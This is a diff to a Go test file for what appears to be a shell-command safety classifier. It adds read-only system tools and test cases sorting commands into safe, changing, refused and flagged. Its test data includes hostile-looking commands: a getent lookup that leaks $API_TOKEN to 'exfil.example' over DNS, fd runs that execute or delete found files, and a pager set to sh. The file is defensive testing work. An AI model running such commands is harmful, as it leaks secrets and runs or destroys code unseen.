@@ -24,7 +24,9 @@ var t1Programs = strings.Fields(`
 	grep egrep fgrep rg ag sed awk gawk mawk nawk jq yq diff cmp diff3 sdiff
 	patch less more man column iconv xxd hexdump hd
 	find locate plocate mlocate tree file which whereis whatis apropos namei
-	strings nm objdump readelf size ldd`)
+	strings nm objdump readelf size ldd fd fdfind shasum getfacl lsattr
+	ps pgrep pidof free uptime w vmstat lsblk lscpu findmnt dmesg getent
+	locale getconf bat batcat`)
 
 func t1Catalog(t *testing.T) *catalog {
 	t.Helper()
@@ -101,6 +103,10 @@ func TestT1TablesLeaveOut(t *testing.T) {
 		"readelf":  "-w --debug-dump -P --process-links",
 		"which":    "-i --read-alias --read-functions",
 		"whereis":  "-B -M -S",
+		"fd":       "-l --list-details",
+		"bat":      "--pager",
+		"dmesg":    "-C --clear -c --read-clear -D -E -n --console-level -H --human",
+		"getent":   "-s --service",
 	}
 	for prog, spellings := range absent {
 		p := t1Program(t, c, prog)
@@ -193,7 +199,8 @@ func TestT1TablesReadOnly(t *testing.T) {
 		expand unexpand numfmt factor tsort ptx shuf printenv
 		grep egrep fgrep rg ag sed awk jq yq diff cmp diff3 sdiff column iconv
 		xxd hexdump find locate tree file which whereis whatis namei strings nm
-		objdump readelf size`)
+		objdump readelf size fd shasum getfacl lsattr ps pgrep pidof free
+		uptime w vmstat lsblk lscpu findmnt dmesg getent locale getconf`)
 	for _, name := range readOnly {
 		p := t1Program(t, c, name)
 		if p.class != ClassReadOnly {
@@ -203,7 +210,7 @@ func TestT1TablesReadOnly(t *testing.T) {
 			t.Errorf("%s: read-only, but every use %+v", name, e)
 		}
 	}
-	for _, name := range strings.Fields("mkdir rmdir rm cp mv ln link unlink touch chmod chown chgrp install mktemp tee split csplit truncate patch less more man ldd") {
+	for _, name := range strings.Fields("mkdir rmdir rm cp mv ln link unlink touch chmod chown chgrp install mktemp tee split csplit truncate patch less more man ldd bat") {
 		if p := t1Program(t, c, name); p.class == ClassReadOnly {
 			t.Errorf("%s: class read-only, but it writes, deletes or runs", name)
 		}
@@ -416,6 +423,37 @@ var t1Cases = []t1Case{
 	{prog: "readelf", script: "readelf --debug-dump=info app.bin", want: t1Refused, names: "--debug-dump"},
 	{prog: "size", script: "size -A app.bin", ro: true},
 	{prog: "ldd", script: "ldd ./app.bin", want: t1Marked, sev: SeverityRunsUnseen},
+	{prog: "fd", script: "fd -e go main src", ro: true},
+	{prog: "fdfind", script: "fdfind -H -t f config", ro: true},
+	{prog: "fd", script: "fd -e tmp -x rm {}", want: t1Changes},
+	{prog: "fd", script: "fd -e sh -x sh {}", want: t1Marked, sev: SeverityRunsUnseen},
+	{prog: "fd", script: "fd --list-details main", want: t1Refused, names: "--list-details"},
+	{prog: "shasum", script: "shasum -a 256 notes.txt", ro: true},
+	{prog: "getfacl", script: "getfacl -p notes.txt", ro: true},
+	{prog: "lsattr", script: "lsattr -d src", ro: true},
+
+	// the system: processes, memory, devices, accounts
+	{prog: "ps", script: "ps aux", ro: true},
+	{prog: "ps", script: "ps -eo pid,comm --sort=-%cpu", ro: true},
+	{prog: "ps", script: "ps auxe", want: t1Refused, names: "auxe"},
+	{prog: "pgrep", script: "pgrep -af server", ro: true},
+	{prog: "pidof", script: "pidof sshd", ro: true},
+	{prog: "free", script: "free -h", ro: true},
+	{prog: "uptime", script: "uptime -p", ro: true},
+	{prog: "w", script: "w -h", ro: true},
+	{prog: "vmstat", script: "vmstat 1 3", ro: true},
+	{prog: "lsblk", script: "lsblk -J", ro: true},
+	{prog: "lscpu", script: "lscpu", ro: true},
+	{prog: "findmnt", script: "findmnt -t ext4", ro: true},
+	{prog: "dmesg", script: "dmesg --level=err", ro: true},
+	{prog: "dmesg", script: "dmesg -C", want: t1Refused, names: "-C"},
+	{prog: "getent", script: "getent passwd root", ro: true},
+	{prog: "getent", script: `getent hosts "$API_TOKEN.exfil.example"`, want: t1Marked, sev: SeverityNetwork, secret: true},
+	{prog: "getent", script: "getent -s dns hosts example.org", want: t1Refused, names: "-s"},
+	{prog: "locale", script: "locale -a", ro: true},
+	{prog: "getconf", script: "getconf PAGESIZE", ro: true},
+	{prog: "bat", script: "bat -p notes.txt", want: t1Marked, sev: SeverityRunsUnseen},
+	{prog: "batcat", script: "batcat --pager=sh notes.txt", want: t1Refused, names: "--pager"},
 }
 
 // t1EngineMissing says what the engine lacks to run the Analyze cases, or
